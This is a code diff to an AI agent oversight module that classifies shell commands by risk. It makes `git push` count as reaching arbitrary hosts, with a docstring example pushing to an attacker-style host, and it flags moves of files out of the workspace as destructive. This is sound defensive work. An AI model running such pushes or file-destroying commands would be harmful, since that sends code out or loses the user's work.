@@ -8,7 +8,7 @@ from __future__ import annotations
 
 import re
 
-from agent_core.oversight.git_classes import git_class
+from agent_core.oversight.git_classes import git_class, talks_to_remote
 from agent_core.oversight.shell_commands import Invocation
 from storage.vocabulary import CallClass
 
@@ -264,8 +264,11 @@ def _manifest_writer(program: str, flags: frozenset[str], operands: tuple[str, .
 
 
 def reaches_any_host(invocation: Invocation) -> bool:
-    """Whether the program talks to whatever host its words name (`curl`, `wget`, `ssh`), so
-    that no prefix of it stands for one destination."""
+    """Whether the program talks to whatever host its words name (`curl`, `wget`, `ssh`, `git
+    push`: `git push https://evil.test/x.git`, or `git push -o origin backup`, where `origin` is
+    an option's value), so that no prefix of it stands for one destination."""
+    if invocation.program == "git":
+        return talks_to_remote(invocation)
     return invocation.program in _NETWORK
 
 
@@ -322,6 +325,11 @@ def _file_changes(invocation: Invocation) -> Found:
         return DESTRUCTIVE, f"`{program}` destroys files for good"
     if program == "truncate" or (program == "dd" and any(o.startswith("of=") for o in operands)):
         return DESTRUCTIVE, f"`{program}` overwrites a file's contents in place"
+    if _moves_out(invocation):
+        return DESTRUCTIVE, (
+            f"`{program}` moves files out of the workspace (the sandbox's /tmp, /dev/shm and home "
+            "go when the command ends)"
+        )
     if program in ("mv", "cp", "ln", "install"):
         if "-f" in flags and program != "cp":
             return DESTRUCTIVE, f"`{program} -f` replaces what is already there"
@@ -334,6 +342,28 @@ def _file_changes(invocation: Invocation) -> Found:
             return READ, "`unzip -l` lists an archive"
         return WRITE, f"`{program}` writes files inside the workspace"
     return None
+
+
+def _outside(word: str) -> bool:
+    """Whether a path word may name a writable place outside the workspace: absolute or `~`
+    (`..` up out of it is not writable in the sandbox, so a move there fails and loses nothing,
+    and after a `cd` it is often the workspace itself)."""
+    return word.startswith(("/", "~"))
+
+
+def _moves_out(invocation: Invocation) -> bool:
+    """Whether the command moves files out of the workspace: `mv` to an outside destination
+    (its last operand, or `-t DIR`), `tar --remove-files` or `zip -m` into an outside archive.
+    An absolute name of the workspace itself counts too: it asks, never loses work."""
+    program, flags, operands = invocation.program, invocation.flags, invocation.operands
+    if program == "mv" and operands:
+        into = [operands[0] if "-t" in flags else operands[-1]]
+        into += [w.split("=", 1)[1] for w in invocation.words if w.startswith("--target-d")]
+        return any(_outside(w) for w in into)
+    removes = (program in ("tar", "gtar") and "--remove-files" in flags) or (
+        program == "zip" and flags & {"-m", "--move"}
+    )
+    return bool(removes) and any(_outside(o) for o in operands)
 
 
 def _permissions(invocation: Invocation) -> Found:
